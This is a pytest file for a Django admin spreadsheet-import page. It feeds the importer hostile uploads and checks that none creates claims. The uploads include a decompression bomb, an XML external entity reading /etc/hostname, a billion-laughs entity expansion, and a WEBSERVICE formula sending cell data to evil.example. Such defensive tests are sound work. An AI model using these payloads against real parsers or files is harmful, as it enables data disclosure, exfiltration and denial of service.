"""Tables of claims that mean harm: each ends in a plain sentence, and nothing is written."""

from itertools import repeat

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from claims import sheets as reading
from claims.models import Article, Claim
from tests.hostile.cases import Case, shows
from tests.support import desk, sheets
from tests.support.people import Newsroom

ITEM = "a table that is sent"
MB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
BEGUN = b'<?xml version="1.0"?>'
OPENED = (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<dimension ref="A1:B2"/><sheetData>'
)
CLOSED = b"</sheetData></worksheet>"
HEAD = b'<row r="1"><c r="A1" t="inlineStr"><is><t>quote</t></is></c></row>'
WORDS = b'<row r="2"><c r="A2" t="inlineStr"><is><t>%s</t></is></c></row>'
OUTSIDE = b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
TENFOLD = [b"<!ENTITY e%d '%s'>" % (number, b"&e%d;" % (number - 1) * 10) for number in range(1, 11)]
LAUGHS = b"<!DOCTYPE w [<!ENTITY e0 'ha'>%s<!ENTITY e '&e10;'>]>" % b"".join(TENFOLD)


def workbook(*rows: bytes, doctype: bytes = b"") -> bytes:
    pieces = [BEGUN, doctype, OPENED, HEAD, *rows, CLOSED]
    return sheets.with_part(sheets.as_xlsx([["quote"]]), SHEET, pieces)


def bomb() -> bytes:
    """One cell of 300 MB."""
    before, after = WORDS.split(b"%s")
    return workbook(before, *repeat(b"a" * MB, 300), after)


def rows_without_end() -> bytes:
    return workbook(*repeat(b"<row><c><v>1</v></c></row>" * 10_000, 1000))


def without_dimension() -> bytes:
    """To know its size it would have to be read to its end, and then once more."""
    pieces = [BEGUN, OPENED.replace(b'<dimension ref="A1:B2"/>', b""), HEAD]
    rows = repeat(b"<row><c><v></v></c></row>" * 10_000, 200)
    return sheets.with_part(sheets.as_xlsx([["quote"]]), SHEET, [*pieces, *rows, CLOSED])


def far_away() -> bytes:
    """Two rows, the second of them the last that a sheet can have."""
    return workbook(WORDS.replace(b'"2"', b'"1048576"').replace(b"A2", b"XFD1048576") % b"far away")


def formulas() -> bytes:
    return sheets.as_xlsx([["quote", "statement"], [desk.QUOTE, '=WEBSERVICE("https://evil.example/"&A1)']])


def csv_rows() -> bytes:
    return sheets.as_csv([["quote"], *repeat(["a"], 1_000_000)])


SAID = "Said beside the file; nothing is marked."

CASES = (
    Case(ITEM, "a workbook with a cell of 300 MB, packed small", reading.TOO_MUCH, bomb, SAID),
    Case(
        ITEM,
        "a workbook that names a file of ours as an entity",
        reading.BROKEN,
        lambda: workbook(WORDS % b"&e;", doctype=OUTSIDE),
        SAID,
    ),
    Case(
        ITEM,
        "a workbook with entities that grow tenfold ten times",
        reading.BROKEN,
        lambda: workbook(WORDS % b"&e;", doctype=LAUGHS),
        SAID,
    ),
    Case(ITEM, "a workbook of ten million rows", reading.TOO_MUCH, rows_without_end, SAID),
    Case(
        ITEM,
        "a workbook of two million empty rows that does not say its size",
        reading.TOO_MUCH,
        without_dimension,
        "Refused by its size unpacked, before it is read.",
    ),
    Case(ITEM, "a CSV of a million rows", reading.TOO_MUCH, csv_rows, SAID),
    Case(ITEM, "a workbook cut off in the middle", reading.BROKEN, lambda: workbook()[:2000], SAID),
    Case(
        ITEM,
        "a formula that would call somebody",
        "statement: a formula; put in what it comes to.",
        formulas,
        "Never worked out; the row is left out.",
    ),
    Case(
        ITEM, "a row at the far end of a sheet", "0 claims can be marked", far_away, "Not looked for there."
    ),
)


@shows(*CASES)
@pytest.mark.django_db
def test_a_table_that_means_harm(case: Case, article: Article, newsroom: Newsroom) -> str:
    """The sentence that the page says; nothing is marked."""
    newsroom.reviewer.is_staff = True
    newsroom.reviewer.save(update_fields=["is_staff"])
    client = Client()
    client.force_login(newsroom.reviewer)
    said = {"file": SimpleUploadedFile("table.xlsx", case.make()), "article": str(article.pk)}
    shown = client.post(reverse("admin:claims_claim_import"), said).content.decode()
    assert Claim.objects.count() == 0
    return case.ends if case.ends in shown else shown
